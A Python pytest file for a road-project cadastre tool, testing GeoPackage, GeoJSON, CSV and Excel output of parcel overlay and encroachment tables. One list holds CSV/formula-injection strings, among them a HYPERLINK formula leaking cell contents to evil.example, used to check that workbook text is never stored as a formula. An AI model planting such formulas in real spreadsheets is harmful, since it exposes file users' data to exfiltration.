"""Writing the cadastre results: typed layers even when empty, the named
table in single-table formats, text never a formula in workbooks, atomic replacement, and
the encroachment table with buildings (numbers as numbers, a building row's own area)."""

from __future__ import annotations

import csv
import json
import sqlite3

import fiona
import geopandas as gpd
import openpyxl
import pytest
from roadinfra.core.cadastre.corridor import Widening
from roadinfra.core.cadastre.errors import CadastreError
from roadinfra.core.cadastre.outputs import write_tables
from roadinfra.core.cadastre.overlay import overlay_corridors
from roadinfra.core.reports.tables import Column, ReportTable
from roadinfra.core.reports.xlsx import write_xlsx
from shapely.geometry import box

from tests.unit.test_cadastre_overlay import X0, Y0, parcels, routes

NUMBERS = ["parcel_area_m2", "area_in_m2", "share_pct", "from_m", "to_m"]
INJECTED = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def profile():
    from roadinfra.core.profile import load_profile

    return load_profile()


def overlay(profile, **kwargs):
    result = overlay_corridors(parcels(), routes(), {"DT455": "IV"}, profile, **kwargs)
    return {"corridor_parcels": result.pieces, "encroachment": result.encroachments,
            "land_acquisition": result.acquisition, "corridors": result.corridors}


def layer_types(path) -> dict:
    with sqlite3.connect(path) as con:
        return {name: (kind, srs) for name, kind, srs in con.execute(
            "SELECT table_name, geometry_type_name, srs_id FROM gpkg_geometry_columns")}


def test_empty_layers_keep_their_geometry_type_crs_and_field_types(profile, tmp_path):
    """No widening: land_acquisition is empty; it is still a MultiPolygon layer in the grid
    with number fields (QGIS gives such a layer a renderer, the printed map needs one)."""
    tables = overlay(profile)
    assert len(tables["land_acquisition"]) == 0
    path = write_tables(tables, tmp_path / "o.gpkg")
    assert layer_types(path) == {name: ("MULTIPOLYGON", 9209) for name in tables}
    with fiona.open(path, layer="land_acquisition") as layer:
        assert layer.schema["geometry"] == "MultiPolygon"
        fields = layer.schema["properties"]
        assert {fields[c].split(":")[0] for c in NUMBERS + ["remaining_m2"]} == {"float"}
        assert fields["owner"].startswith("str")
        assert len(layer) == 0


def test_a_single_table_format_gets_the_named_table_even_empty(profile, tmp_path):
    empty_findings = gpd.GeoDataFrame({"kind": [], "detail": []}, geometry=[], crs=9209)
    some_parcels = parcels()
    tables = {"quality_findings": empty_findings, "parcels": some_parcels}
    geojson = write_tables(tables, tmp_path / "q.geojson", single="quality_findings")
    assert json.loads(geojson.read_text(encoding="utf-8"))["features"] == []  # no columns
    # in an empty GeoJSON: its fields are those of its features
    out = write_tables(tables, tmp_path / "q.csv")  # default: the first table
    assert out.read_text(encoding="utf-8").splitlines() == ["kind,detail"]
    # the overlay's CSV is the corridor parcels, also when there are none
    tables = overlay(profile, widenings=[Widening("DT455", 12100.0, 12400.0, 24.0)])
    tables["corridor_parcels"] = tables["corridor_parcels"].iloc[0:0]
    write_tables(tables, tmp_path / "o.csv", single="corridor_parcels")
    rows = list(csv.reader((tmp_path / "o.csv").open(encoding="utf-8")))
    assert rows == [list(tables["corridor_parcels"].columns.drop("geometry"))]


def test_check_writes_its_findings_not_the_parcels(tmp_path, capsys):
    """``cadastre check -o x.geojson|x.csv`` on a clean file: the (empty) findings."""
    from roadinfra.core.cli import main

    source = tmp_path / "clean.gpkg"
    rows = [{"SoTo": "12", "SoThua": str(k + 1), "DienTich": 400.0, "LoaiDat": "LUC",
             "MaXa": "12345", "geometry": box(X0 + 20 * k, Y0, X0 + 20 * k + 20, Y0 + 20)}
            for k in range(5)]
    gpd.GeoDataFrame(rows, crs=9209).to_file(source, driver="GPKG")
    for name in ("q.geojson", "q.csv"):
        assert main(["cadastre", "check", str(source), "-o", str(tmp_path / name)]) == 0
    assert "findings: " in capsys.readouterr().out
    assert json.loads((tmp_path / "q.geojson").read_text(encoding="utf-8"))["features"] == []
    header, *rest = (tmp_path / "q.csv").read_text(encoding="utf-8").splitlines()
    assert "kind" in header.split(",") and rest == []


def test_workbook_text_is_never_a_formula(profile, tmp_path):
    frame = parcels()
    frame["owner"] = INJECTED[:len(frame)]
    result = overlay_corridors(frame, routes(), {"DT455": "IV"}, profile)
    book = openpyxl.load_workbook(write_tables({"corridor_parcels": result.pieces},
                                               tmp_path / "f.xlsx"))
    sheet = book["corridor_parcels"]
    column = [c.value for c in sheet[1]].index("owner")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} == set(result.pieces["owner"])
    assert {c.data_type for c in cells} == {"s"} and all(c.quotePrefix for c in cells)
    area = [c.value for c in sheet[1]].index("area_in_m2")
    assert all(isinstance(row[area].value, (int, float)) for row in sheet.iter_rows(min_row=2))


def test_report_workbooks_write_text_as_text(tmp_path):
    table = ReportTable("t", "Bảng", "Table", (Column("name", "Tên", "Name"),
                                               Column("n", "Số", "Count", "count")),
                        [{"name": text, "n": 1} for text in INJECTED])
    book = openpyxl.load_workbook(write_xlsx([table], tmp_path / "r.xlsx"))
    cells = [row[0] for row in book["t"].iter_rows(min_row=4, max_row=3 + len(INJECTED))]
    assert [c.value for c in cells] == INJECTED
    assert {c.data_type for c in cells} == {"s"}


def test_a_failed_write_leaves_the_old_file(tmp_path):
    """The layers go to a temporary file moved into place only when all are written."""
    path = tmp_path / "o.gpkg"
    ok = gpd.GeoDataFrame({"x": [1.0]}, geometry=[box(0, 0, 1, 1)], crs=9209)
    write_tables({"previous": ok}, path)
    before = path.read_bytes()
    clash = gpd.GeoDataFrame({"fid": ["a"]}, geometry=[box(0, 0, 1, 1)], crs=9209)
    with pytest.raises(CadastreError, match="cannot write layer two: Wrong field type"):
        write_tables({"one": ok, "two": clash}, path)  # GeoPackage: fid is the integer key
    assert path.read_bytes() == before and fiona.listlayers(path) == ["previous"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["o.gpkg"]


def test_building_encroachments_are_numbers_with_the_building_part_area(profile, tmp_path):
    """A building across parcel 1's road land and safety corridor parts: one row per part,
    its geometry, area, share of the parcel and Km range are the building part's."""
    house = gpd.GeoDataFrame({"geometry": [box(X0 + 105, Y0 + 3, X0 + 110, Y0 + 18)]},
                             crs=9209)
    tables = overlay(profile, buildings=house)
    enc = tables["encroachment"]
    for column in NUMBERS:
        assert enc[column].dtype.kind == "f", column
    built = enc[enc["part"] == "building"].sort_values("zone")
    assert list(built["zone"]) == ["road_land", "safety_corridor"]
    # road land edge 5.5 m, corridor edge 14.5 m; parcel 1 starts at y = 2 (400 m²)
    assert list(built["area_in_m2"]) == [5 * 2.5, 5 * 9.0]
    assert list(built["share_pct"]) == pytest.approx([100 * 12.5 / 400, 100 * 45.0 / 400],
                                                     abs=0.01)
    assert list(built.geometry.area.round(2)) == list(built["area_in_m2"])
    assert list(built["from_m"]) == [12105.0, 12105.0] and list(built["to_m"]) == [12110.0] * 2
    assert set(built["reason"]) == {"building"}
    assert list(enc.loc[enc["part"] == "parcel", "reason"]) == ["land use ONT"]
    path = write_tables(tables, tmp_path / "ob.gpkg")
    with fiona.open(path, layer="encroachment") as layer:
        fields = layer.schema["properties"]
        assert {fields[c].split(":")[0] for c in NUMBERS} == {"float"}
        assert fields["part"].startswith("str")
